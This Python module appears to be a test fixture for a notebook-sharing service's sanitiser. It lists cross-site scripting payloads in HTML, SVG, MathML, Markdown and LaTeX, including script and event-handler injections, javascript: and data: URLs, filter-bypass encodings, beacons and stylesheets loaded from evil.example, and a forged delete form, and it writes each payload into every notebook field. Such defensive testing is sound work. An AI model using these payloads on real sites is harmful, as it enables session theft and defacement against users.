"""What strangers may write into a notebook to get at its readers, in every place that there is."""

from __future__ import annotations

import json
from collections.abc import Iterator
from html import escape
from typing import Any

SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>x()</script></svg>'

CORPUS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/beacon.png'>",
    "<img srcset='https://evil.example/b.png 1x'>",
    "<img src=`javascript:alert(1)`>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa&#09;ScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='/hub/logout'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://ok.example' target='_top' ping='https://evil.example'>x</a>",
    SVG_SCRIPT,
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='/services/shares/x/delete' method=post><button>Fork</button></form>",
    "<input type=text autofocus onfocus=alert(1)><select onchange=x><option>1</select>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='position:fixed;inset:0'>overlay</div>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<body onload=alert(1)>x",
    "<html><head><title>x</title></head></html>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<div class='lodge-button lodge-button-primary' id='content'>Fork</div>",
    "<div id='failing-cell' data-lodge-copy='x'>x</div>",
    "<table><script>alert(1)</script><tr><td onclick=alert(1)>1</td></tr></table>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "</div></div></main><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "<div",
    "<a href='",
    "<<<>>><b",
    "<slot><x-y is=z>",
    "<a href='https://x.example' onclick\n=\nalert(1)>x</a>",
    "<img/src/onerror=alert(1)>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "<p>{{7*7}} ${alert(1)}</p>",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
]

MARKDOWN_CORPUS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/beacon.png)",
    '![x"onerror="alert(1)](data:image/png;base64,AAAA)',
    '![x](data:image/png;base64,AAAA"onerror="alert(1))',
    '[x](https://ok.example "t\\"onmouseover=\\"alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "$<script>alert(1)</script>$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "# <script>alert(1)</script> heading",
    '# "onclick="alert(1)',
    "|a|b|\n|-|-|\n|<script>alert(1)</script>|x|",
    "- [x] <script>alert(1)</script>",
    *(
        f"${tex}$\n\n$${tex}$$"
        for tex in (
            r"\text{<script>alert(1)</script>}",
            r"\text{</math><img src=x onerror=alert(1)>}",
            r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}",
            r"\href{javascript:alert(1)}{x}",
            r"\style{background:url(https://evil.example)}{x}",
            r"\class{lodge-button}{x} \id{content}{y}",
            r"\color{red\"onclick=\"alert(1)}{x}",
            r"\hspace{99999em} x \rule{9999em}{9999em}",
            r"\begin{array}{\"><script>}a\end{array}",
            r"\operatorname{<img src=x onerror=alert(1)>}",
            r"\unicode{x3c}script\unicode{x3e}",
            r"\mathrm{<b>} & < > \" '",
        )
    ),
    '<p title="$x$">x</p> [a](https://ok.example/$x$) ![$<script>$](https://ok.example)',
    '<code class="nb-math">nbmath0z</code> $x$',
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "![x](attachment:evil.svg) ![y](attachment:evil.html)",
    "https://ok.example/?a=<script>alert(1)</script>",
]


def notebook(*cells: dict[str, Any], metadata: Any = None) -> dict[str, Any]:
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata or {}, "cells": list(cells)}


def code(*outputs: Any, source: str = "x", **more: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "id": "c",
        "metadata": {},
        "source": source,
        "execution_count": 1,
        "outputs": list(outputs),
        **more,
    }


def interactive(text: str) -> Iterator[dict[str, Any]]:
    """Yield what is interactive, with `text` in every place; some can be drawn all the same."""
    figure = {
        "title": text,
        "below": [{"id": "a", "name": text, "attributes": {"axis_label": text}}],
    }
    yield _figure(text, {"id": text, "name": "Figure", "attributes": figure})
    title = {"type": "object", "name": "Title", "id": "t", "attributes": {"text": text}}
    shown = {"title": title, "width": 200, "height": 100}
    yield _figure("p", {"type": "object", "id": "p", "name": "Figure", "attributes": shown})
    yield _map(f"<script>L.map({text})</script>{text}")
    said = json.dumps(text).replace("</", "<\\/")
    script = f"L.marker([0, 0]).bindPopup({said}).addTo(L.map('m').setView([0, 0], 2)).openPopup()"
    yield _map(f"<div id=m style='height:200px'></div><script>{script}</script>{text}")
    for name in (text, "all", "odd"):
        view = {"model_id": name}
        yield {"application/vnd.jupyter.widget-view+json": view, "text/plain": text}


def states(text: str) -> dict[str, Any]:
    """Return the states of widgets with `text` in every place of them."""
    names = ("HTML", "HTMLMath", "Text", "Button", "Image")
    about = {"value": text, "description": text, "tooltip": text, "icon": text}
    output = {"output_type": "display_data", "data": {"text/html": text}, "metadata": {}}
    models = {
        **{name: _model(name, about) for name in names},
        "Dropdown": _model("Dropdown", {"_options_labels": [text], "index": 0}),
        "Output": _model("Output", {"outputs": [output]}, module="output"),
    }
    box = {"children": [f"IPY_MODEL_{name}" for name in models]}
    odd = {**_model(text, about | box), "buffers": [{"data": text, "path": [text]}]}
    return {**models, "all": _model("VBox", box), "odd": odd}


def _model(name: str, state: dict[str, Any], module: str = "controls") -> dict[str, Any]:
    about = {"model_module": f"@jupyter-widgets/{module}", "model_name": f"{name}Model"}
    return {
        **about,
        "model_module_version": "1.0.0" if module == "output" else "2.0.0",
        "state": state,
    }


def _figure(name: str, root: dict[str, Any]) -> dict[str, Any]:
    document = {name: {"version": "3.1.0", "title": name, "roots": [root]}}
    items = [{"docid": name, "roots": {name: name}}]
    said = f"docs_json = {json.dumps(document)}; render_items = {json.dumps(items)}"
    return {"application/javascript": said, "application/vnd.bokehjs_exec.v0+json": name}


def _map(page: str) -> dict[str, Any]:
    return {"text/html": f'<iframe srcdoc="{escape(page)}"></iframe>'}


def everywhere(text: str) -> dict[str, Any]:
    """A notebook with `text` in every place that a stranger may fill."""
    kinds = (
        *("text/html", "text/markdown", "text/plain", "text/latex", "image/svg+xml", "image/png"),
        *("text/vnd.mermaid", "application/javascript", "application/vnd.plotly.v1+json"),
        *("application/vnd.jupyter.widget-view+json", "text/unknown"),
    )
    bundles = [
        {"output_type": "display_data", "metadata": {kind: {"width": text}}, "data": {kind: text}}
        for kind in kinds
    ]
    attachment = {"evil.svg": {"image/svg+xml": text}, "evil.html": {"text/html": text}}
    return notebook(
        {"cell_type": "markdown", "metadata": {}, "source": text, "attachments": attachment},
        {"cell_type": "raw", "metadata": {"format": text}, "source": text},
        {"cell_type": text, "metadata": {"tags": [text]}, "source": text},
        code(
            {"output_type": "stream", "name": text, "text": text},
            {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
            {"output_type": "display_data", "metadata": {}, "data": {"application/json": [text]}},
            {"output_type": text},
            *bundles,
            *(
                {"output_type": "display_data", "metadata": {}, "data": data}
                for data in interactive(text)
            ),
            source=text,
            execution_count=text,
            id=text,
        ),
        metadata={
            "title": text,
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": states(text)}},
            "language_info": {"name": text, "pygments_lexer": text},
            "kernelspec": {"language": text, "display_name": text},
        },
    )
